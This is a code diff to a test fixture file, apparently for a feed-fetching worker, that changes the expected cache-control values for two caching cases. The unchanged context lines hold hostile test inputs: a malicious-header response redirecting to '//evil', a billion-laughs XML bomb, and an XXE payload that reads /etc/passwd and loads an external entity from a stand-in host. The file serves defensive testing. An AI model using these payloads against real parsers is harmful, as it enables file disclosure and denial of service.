@@ -156,8 +156,8 @@ export const documents = {
     serve: answer(rss(), { "Set-Cookie": "sid=1; Domain=.worker.test", "Access-Control-Allow-Origin": "https://x", "Clear-Site-Data": '"*"', Refresh: "0;url=//evil", Link: "</x>; rel=preload" }),
     status: 200, entries: 3,
   },
-  "cache-forever": { serve: answer(rss(), { "Cache-Control": "public, max-age=31536000, immutable" }), status: 200, maxAge: 3600 },
-  "cache-private": { serve: answer(rss(), { "Cache-Control": "private, no-store", Vary: "*" }), status: 200, maxAge: 60 },
+  "cache-forever": { serve: answer(rss(), { "Cache-Control": "public, max-age=31536000, immutable" }), status: 200, control: "public, max-age=3600, stale-while-revalidate=3600, stale-if-error=604800" },
+  "cache-private": { serve: answer(rss(), { "Cache-Control": "private, no-store", Vary: "*" }), status: 200, control: "public, max-age=60" },
   "xml-bomb": { serve: answer(billionLaughs()), status: 200, most: 64 * 1024 },
   xxe: {
     serve: answer('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://fault.example/oob">%p;]><rss><channel><title>&x;</title></channel></rss>'),
